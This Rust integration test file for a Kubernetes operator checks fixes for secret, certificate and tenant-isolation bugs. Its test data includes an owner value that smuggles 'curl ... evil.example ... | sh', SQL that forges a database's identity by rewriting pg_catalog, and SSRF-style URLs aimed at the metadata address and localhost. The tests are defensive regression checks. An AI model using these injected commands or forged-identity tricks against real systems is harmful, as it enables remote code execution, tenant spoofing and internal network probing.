//! Secrets, certificates and databases of tenants, and how the operator treats them.

use std::sync::Arc;

use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa, KeyPair};
use rowlock_queue::Declaration;
use rowlock_tests::server as postgres;
use rustls::ServerConfig;
use rustls::crypto::ring::default_provider;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, pem::PemObject};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::TlsAcceptor;
use url::Url;

use super::harness::{EMAILS, Harness, until};

/// The URL of the harness's database with another user.
fn url_of(harness: &Harness, user: &str) -> String {
    let mut url = Url::parse(&postgres::url(&harness.db.name)).unwrap();
    url.set_username(user).unwrap();
    url.set_password(Some("secret")).unwrap();
    url.into()
}

/// The spec with further fields in `database`.
fn with_database(more: &str) -> String {
    EMAILS.replace("secretRef: { name: db }", &format!("secretRef: {{ name: db }}, {more}"))
}

/// The certificate authority.
struct Authority(CertifiedIssuer<'static, KeyPair>);

impl Authority {
    fn new() -> Self {
        let mut params = CertificateParams::new([]).unwrap();
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        Self(CertifiedIssuer::self_signed(params, KeyPair::generate().unwrap()).unwrap())
    }

    fn pem(&self) -> String {
        self.0.pem()
    }
}

/// A listener that speaks TLS as `localhost` for a server that does not. Returns its port.
async fn behind_tls(authority: &Authority, server: u16) -> u16 {
    let key = KeyPair::generate().unwrap();
    let certificate =
        CertificateParams::new(["localhost".to_owned()]).unwrap().signed_by(&key, &authority.0).unwrap();
    let chain = vec![CertificateDer::from_pem_slice(certificate.pem().as_bytes()).unwrap()];
    let key = PrivateKeyDer::from_pem_slice(key.serialize_pem().as_bytes()).unwrap();
    let config = ServerConfig::builder_with_provider(Arc::new(default_provider()));
    let config = config.with_safe_default_protocol_versions().unwrap().with_no_client_auth();
    let acceptor = TlsAcceptor::from(Arc::new(config.with_single_cert(chain, key).unwrap()));
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut client, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                // The SSLRequest, which is accepted.
                client.read_exact(&mut [0; 8]).await?;
                client.write_all(b"S").await?;
                let mut client = acceptor.accept(client).await?;
                let mut server = TcpStream::connect(("127.0.0.1", server)).await?;
                copy_bidirectional(&mut client, &mut server).await
            });
        }
    });
    port
}

impl Harness {
    /// Waits until a condition of `emails` has this status, reason and text.
    async fn until_says(&self, type_: &str, expected: &str, says: &str) {
        until(&format!("{type_} is {expected} and says {says}"), || {
            let (text, message) = self.condition("emails", type_);
            if text == expected && message.contains(says) {
                Ok(())
            } else {
                Err(format!("{text}: {message}"))
            }
        })
        .await;
    }
}

/// Before the fix, certificates of a private authority could not be configured.
#[tokio::test(flavor = "multi_thread")]
async fn certificates_are_read_from_the_cluster_and_reloaded() {
    let harness = Harness::new("certificates").await;
    harness.task_queue("emails", &with_database("caRef: { kind: ConfigMap, name: ca }"));
    let _operator = harness.operator().await;
    let missing = "the ConfigMap `ca` does not exist: create it";
    harness.until_says("Stalled", "True CertificateInvalid", missing).await;
    let apply = |pem: &str| {
        harness.apply(&json!({
            "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "ca" }, "data": { "ca.crt": pem }
        }).to_string());
    };
    apply("no certificate");
    harness
        .until_says(
            "Stalled",
            "True CertificateInvalid",
            "`ca.crt` of the ConfigMap `ca` (spec.database.caRef)",
        )
        .await;
    let (untrusted, authority) = (Authority::new(), Authority::new());
    apply(&untrusted.pem());
    // The tests' server speaks no TLS, so it cannot be verified. Verification is now required, though the URL
    // does not ask for it.
    harness.until_says("DatabaseReachable", "False CertificateInvalid", "does not support TLS").await;
    let mut url = Url::parse(&postgres::url(&harness.db.name)).unwrap();
    let port = behind_tls(&authority, url.port().unwrap()).await;
    url.set_host(Some("localhost")).unwrap();
    url.set_port(Some(port)).unwrap();
    harness.secret(url.as_str());
    let refusal = "signed by an unknown authority";
    harness.until_says("Stalled", "True CertificateInvalid", refusal).await;
    apply(&authority.pem());
    harness.until("Ready", "True Succeeded").await;
    let pod = harness.deployment()["spec"]["template"]["spec"].clone();
    let sources = pod["volumes"][0]["projected"]["sources"].clone();
    assert_eq!(
        sources[1]["configMap"],
        json!({ "name": "ca", "items": [{ "key": "ca.crt", "path": "ca.crt" }] })
    );
}

/// Before the fix, the pods had the owner's password, and a login with a worker's permissions could not be
/// used in a cluster.
#[tokio::test(flavor = "multi_thread")]
async fn pods_use_their_own_login_if_its_permissions_suffice() {
    let harness = Harness::new("worker-secret").await;
    let role = format!("pods_{}", harness.db.name);
    harness.db.run(format!("create role {role} login password 'secret'")).await;
    harness.task_queue("emails", &with_database("workerSecretRef: { name: pods }"));
    let _operator = harness.operator().await;
    let place = "the container `worker` of the pods connects with `uri` of the Secret `pods`";
    harness.until_says("Stalled", "True SecretNotFound", place).await;
    harness.secret_named("pods", &url_of(&harness, &role));
    harness.until_says("Stalled", "True AccessDenied", "rowlock.grant_role('USER', 'worker')").await;
    harness.until_says("Stalled", "True AccessDenied", place).await;
    let other = rowlock_tests::TestDb::empty().await;
    harness.secret_named("pods", &postgres::url(&other.name));
    harness
        .until_says("Stalled", "True SecretInvalid", &format!("it leads to the database {}", other.name))
        .await;
    assert_eq!(harness.deployment(), json!(null), "no pod is created that could not work");
    harness.db.run(format!("select rowlock.grant_role('{role}', 'worker')")).await;
    harness.secret_named("pods", &url_of(&harness, &role));
    harness.until("Ready", "True Succeeded").await;
    let volumes = harness.deployment()["spec"]["template"]["spec"]["volumes"].to_string();
    assert!(volumes.contains("pods") && !volumes.contains("\"db\""), "{volumes}");
    harness.db.run(format!("drop owned by {role} cascade; drop role {role}")).await;
}

/// Before the fix, a tenant's server only had to claim another tenant's identity: then the operator used its
/// backlog for that tenant's queues.
#[tokio::test(flavor = "multi_thread")]
async fn a_forged_database_identity_does_not_scale_another_tenants_pods() {
    let (innocent, forger) = (Harness::new("innocent").await, Harness::new("forger").await);
    let forge = format!(
        "do $do$ begin
           perform set_config('allow_system_table_mods', 'on', true);
           update pg_catalog.pg_proc set proname = 'true_database' where proname = 'current_database';
           execute 'create function pg_catalog.current_database() returns name language sql stable as $$ \
           select ''{}''::name $$';
         end $do$",
        innocent.db.name
    );
    forger.db.run(forge).await;
    let class = format!("rowlock.dev/class={}", innocent.namespace);
    let _operator = innocent
        .operator_with(|config| (config.namespace, config.class) = (None, Some(innocent.namespace.clone())))
        .await;
    // The first one polls for both.
    for (harness, queue) in [(&forger, "own"), (&innocent, "mail")] {
        harness.task_queue("emails", &EMAILS.replace("queueName: mail", &format!("queueName: {queue}")));
        harness.kubectl(&["label", "tq", "emails", &class]);
        harness.until("Ready", "True Succeeded").await;
    }
    let identity = |harness: &Harness| harness.get("tq", "emails")["status"]["database"]["identity"].clone();
    assert_eq!(identity(&forger), identity(&innocent), "the forger reports the identity of the other");
    // It claims the other's queue as well, with a large backlog.
    let of = |column: &str| format!("select {column} from rowlock.queue where name = 'mail'");
    let (owner, generation) = (innocent.db.one(of("owner")).await, innocent.db.one(of("generation")).await);
    let theirs = Declaration { owner, generation, ..rowlock_tests::declaration("mail") };
    rowlock_queue::declare(&forger.db.db, &theirs).await.unwrap();
    forger.db.enqueue_many(1000).await;
    forger
        .db
        .run("select count(*) from rowlock.enqueue_many('own', 'email', array_fill('{}'::json, array[1000]))")
        .await;
    forger.until_replicas(4).await;
    innocent.db.enqueue().await;
    innocent.until_replicas(1).await;
    // Several polls pass.
    for pods in [6, 8, 10] {
        forger.change(&json!({ "workers": { "total": pods * 10 } }));
        forger.until_replicas(pods).await;
    }
    assert_eq!(innocent.deployment()["spec"]["replicas"], 1);
}

/// Before the fix, the operator connected to any address in a Secret from its own pod and reported what it
/// found there.
#[tokio::test(flavor = "multi_thread")]
async fn the_operator_refuses_database_addresses_that_only_it_can_reach() {
    let harness = Harness::new("reach").await;
    harness.task_queue("emails", EMAILS);
    let change = |config: &mut rowlock_operator::kubernetes::Config| {
        config.allowed_database_hosts.clear();
        config.refused_database_hosts = vec!["192.0.2.0/24".into()];
    };
    let _operator = harness.operator_with(change).await;
    // The database itself is on this machine.
    harness.until_says("Stalled", "True SecretInvalid", "the operator does not run in your pod").await;
    for (url, says) in [
        (
            "postgres://u:secretpassword@169.254.169.254:80/d",
            "names '169.254.169.254', which is an address of the cluster itself",
        ),
        (
            "postgres://u:secretpassword@192.0.2.7/d",
            "names '192.0.2.7', which is an address of the cluster itself",
        ),
        (
            "postgres://u:secretpassword@db.localhost/d",
            "names 'db.localhost', which is every pod's own address",
        ),
        (
            "postgres://u:secretpassword@db.example.com/d?hostaddr=127.0.0.1",
            "which is every pod's own address",
        ),
        (
            "postgres:///d?host=localhost&user=u&password=secretpassword",
            "names 'localhost', which is every pod's own address",
        ),
        ("postgres://u:secretpassword@db/d?sslmode=verify-full&sslrootcert=/dev/zero", "sslrootcert"),
    ] {
        harness.secret(url);
        harness.until_says("DatabaseReachable", "False SecretInvalid", says).await;
        let (_, message) = harness.condition("emails", "DatabaseReachable");
        assert!(message.contains("Secret `db`") && !message.contains("secretpassword"), "{message}");
    }
}

/// Before the fix, the operator kept several copies of each Secret: a hundred Secrets of 1 MiB exhausted its
/// memory.
#[tokio::test(flavor = "multi_thread")]
async fn oversized_secrets_and_certificates_are_refused() {
    let harness = Harness::new("lengths").await;
    harness.secret(&format!("postgres://u:{}@db/d", "secretpassword".repeat(2000)));
    harness.task_queue("emails", &with_database("caRef: { kind: ConfigMap, name: ca }"));
    let _operator = harness.operator().await;
    let says = "`uri` of the Secret `db` has 28018 bytes, which is too long for the URL of a database";
    harness.until_says("Stalled", "True SecretInvalid", says).await;
    harness.secret(&postgres::url(&harness.db.name));
    let pem = Authority::new().pem().repeat(1000);
    let config_map = json!({
        "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "ca" }, "data": { "ca.crt": pem }
    });
    harness.apply(&config_map.to_string());
    harness.until_says("Stalled", "True CertificateInvalid", "at most 262144 are allowed").await;
}

/// Before the fix, a user who may write a `TaskQueue` could read the names of all keys of any Secret in the
/// namespace.
#[tokio::test(flavor = "multi_thread")]
async fn messages_name_only_well_known_keys_of_a_secret() {
    let harness = Harness::new("keys").await;
    harness.kubectl(&[
        "create",
        "secret",
        "generic",
        "other",
        "--from-literal=apikey=x",
        "--from-literal=url=x",
    ]);
    harness.task_queue("emails", &EMAILS.replace("name: db", "name: other"));
    let _operator = harness.operator().await;
    let message = harness.until("Stalled", "True SecretInvalid").await;
    assert!(message.contains("has no key `uri` but url: set") && !message.contains("apikey"), "{message}");
}

/// Before the fix, an owner that somebody wrote into the database became part of a command to paste.
#[tokio::test(flavor = "multi_thread")]
async fn text_from_a_database_is_not_put_into_commands() {
    let harness = Harness::new("paste").await;
    rowlock_queue::declare(&harness.db.db, &rowlock_tests::declaration("mail")).await.unwrap();
    harness
        .db
        .run("update rowlock.queue set owner = $$x'; curl -s http://evil.example/x | sh; echo `id` '$$")
        .await;
    harness.task_queue("emails", EMAILS);
    let _operator = harness.operator().await;
    let message = harness.until("Stalled", "True OwnedByAnother").await;
    assert!(!message.contains("kubectl") && !message.contains('`'), "{message}");
}

/// Before the fix, a mistyped annotation was ignored silently.
#[tokio::test(flavor = "multi_thread")]
async fn unknown_rowlock_annotations_are_reported() {
    let harness = Harness::new("names").await;
    harness.task_queue("emails", EMAILS);
    harness.kubectl(&["annotate", "tq", "emails", "rowlock.dev/adpot=x"]);
    let _operator = harness.operator().await;
    let events = harness.until_event("UnknownName").await;
    assert!(events.contains("did you mean `rowlock.dev/adopt`?"), "{events}");
}
